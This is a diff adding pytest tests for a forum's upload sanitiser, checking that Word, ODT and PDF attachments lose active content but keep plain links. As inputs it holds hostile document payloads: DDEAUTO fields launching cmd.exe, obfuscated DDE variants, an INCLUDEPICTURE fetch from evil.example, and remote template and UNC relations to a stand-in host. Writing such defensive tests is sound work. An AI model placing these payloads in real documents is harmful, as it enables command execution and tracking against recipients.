@@ -1,0 +1,135 @@
+"""Nothing that runs or fetches something is kept; links that a reader follows are."""
+
+from io import BytesIO
+from zipfile import ZipFile
+
+import pytest
+from pypdf import PdfReader
+
+from forum.adapters.documents.active_content import (
+    refuse_active,
+    without_active_text,
+    without_remote_parts,
+    without_remote_relations,
+)
+from forum.adapters.documents.text import extract_document_text
+from forum.domain.contributions.attachments import FileKind
+from forum.errors import Invalid
+from tests.support.content import files, hostile
+from tests.support.content.cleaning import without_authors
+from tests.support.content.hostile import ELSEWHERE, field
+
+NAMES = "xmlns:xlink='x' xmlns:text='t' xmlns:draw='d' xmlns:office='o'"
+
+
+def kept_part(sent: bytes, name: str) -> str:
+    kept = without_authors(FileKind.DOCX, sent)
+    assert extract_document_text(FileKind.DOCX, kept) == "We keep seeds."
+    return ZipFile(BytesIO(kept)).read(name).decode()
+
+
+def test_a_word_file_fetches_nothing_from_elsewhere_and_keeps_its_links() -> None:
+    sent = hostile.word_with_relations(
+        ("attachedTemplate", f"http://{ELSEWHERE}/t.dotm"),
+        ("image", f"HTTPS://{ELSEWHERE}/p.png"),
+        ("oleObject", f"file:///\\\\{ELSEWHERE}\\share\\o.docx!x"),
+        ("frame", f"\\\\{ELSEWHERE}\\frame.htm"),
+        ("hyperlink", f"mhtml:http://{ELSEWHERE}/x!a"),
+        ("hyperlink", "https://seeds.example/?a=1&amp;b=2"),
+    )
+    left = kept_part(sent, "word/_rels/footer9.xml.rels")
+    assert ELSEWHERE not in left
+    assert 'Target="https://seeds.example/?a=1&amp;b=2"' in left
+    assert left.count("<Relationship ") == 6  # Word calls a file damaged where one is missing
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        b"<r:Relationships xmlns:r='p'><r:Relationship Target='&#104;ttp://x' Type='t/image'/>"
+        b"</r:Relationships>",
+        "<?xml version='1.0' encoding='utf-16'?><Relationships><Relationship Type='t/image' "
+        "Target='http://x'/></Relationships>".encode("utf-16"),
+    ],
+)
+def test_relations_are_read_as_word_reads_them(part: bytes) -> None:
+    assert b"about:blank" in without_remote_relations(part)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'),
+        field("D", "DE", r" c:\\cmd.exe x"),
+        field(r' INCLUDEPICTURE "http://evil.example/p.png" \* MERGEFORMAT '),
+        field(r"QUOTE 1 ", field("&#68;DE c:\\\\cmd.exe")),
+        '<w:fldSimple w:instr="DDE cmd.exe"><w:r><w:t>Kept result</w:t></w:r></w:fldSimple>',
+    ],
+)
+def test_fields_that_start_or_fetch_something_keep_only_what_they_show(body: str) -> None:
+    left = kept_part(hostile.word_with_body(body), "word/footer9.xml")
+    for word in ("cmd", "evil", "DDE"):
+        assert word not in left
+    assert "Kept result" in left
+
+
+def test_other_fields_stay() -> None:
+    left = kept_part(hostile.word_with_body(field(" PAGE ")), "word/footer9.xml")
+    assert "> PAGE </" in left
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<w:r><w:instrText><![CDATA[DDE]]> cmd.exe</w:instrText></w:r>",
+        '<w:fldSimple w:instr="DDE a>b"/>',
+    ],
+)
+def test_an_active_field_that_hides_is_refused(body: str) -> None:
+    with pytest.raises(Invalid) as refused:
+        without_authors(FileKind.DOCX, hostile.word_with_body(body))
+    assert refused.value.code == "file_active"
+
+
+def test_pages_and_programs_inside_a_document_are_emptied() -> None:
+    sent = files.repacked(files.word("We keep seeds."), {"word/afchunk.mht": b"<img src=http://x>"})
+    assert kept_part(sent, "word/afchunk.mht") == ""
+
+
+def test_an_odt_fetches_nothing_from_elsewhere_and_keeps_its_links() -> None:
+    body = (
+        f'<text:p><draw:image xlink:href="http://{ELSEWHERE}/p.png"/>'
+        '<draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://seeds.example/">x'
+        f'</text:a><text:a xlink:href="vnd.sun.star.script:{ELSEWHERE}">y</text:a>'
+        f'<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="{ELSEWHERE}"'
+        "/></text:p>"
+    )
+    left = without_remote_parts(f"<office:x {NAMES}>{body}</office:x>")
+    assert ELSEWHERE not in left
+    assert 'xlink:href="Pictures/a.png"' in left
+    assert 'xlink:href="https://seeds.example/"' in left
+    refuse_active(left.encode(), is_opendocument=True)
+
+
+def test_an_odt_part_elsewhere_that_hides_is_refused() -> None:
+    part = f"<a {NAMES}><draw:image xlink:title='>' xlink:href='http://{ELSEWHERE}/'/></a>"
+    assert ELSEWHERE in without_remote_parts(part)
+    with pytest.raises(Invalid, match="file_active"):
+        refuse_active(part.encode(), is_opendocument=True)
+
+
+def test_text_without_fields_stays_as_it_is() -> None:
+    assert without_active_text("<w:t>DDE is a field.</w:t>") == "<w:t>DDE is a field.</w:t>"
+
+
+def test_a_pdf_runs_starts_sends_and_holds_nothing_and_keeps_its_links() -> None:
+    left = without_authors(FileKind.PDF, hostile.active_pdf())
+    assert extract_document_text(FileKind.PDF, left) == "We keep seeds."
+    whole = left + b"".join(
+        str(found.get_object()).encode()
+        for found in (PdfReader(BytesIO(left)).get_object(n) for n in range(1, 60))
+        if found is not None
+    )
+    for word in (ELSEWHERE, "/JavaScript", "/Launch", "/OpenAction", "/AA", "MZ attached"):
+        assert word.encode() not in whole, word
+    assert b"https://seeds.example/" in whole
